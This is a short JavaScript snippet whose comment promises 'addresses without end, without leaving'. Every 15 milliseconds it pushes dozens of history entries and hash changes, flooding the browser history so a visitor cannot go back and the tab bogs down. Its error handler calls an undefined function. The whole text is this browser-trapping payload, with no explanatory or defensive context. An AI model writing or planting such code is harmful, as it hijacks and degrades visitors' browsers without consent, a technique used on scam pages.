// Addresses without end, without leaving.
var turn = 0;
setInterval(function () { for (var n = 0; n < 50; n++) { turn++; try { history.pushState(turn, '', '?trang=' + turn); location.hash = 'muc-' + turn; } catch (error) { nothing(); } } }, 15);
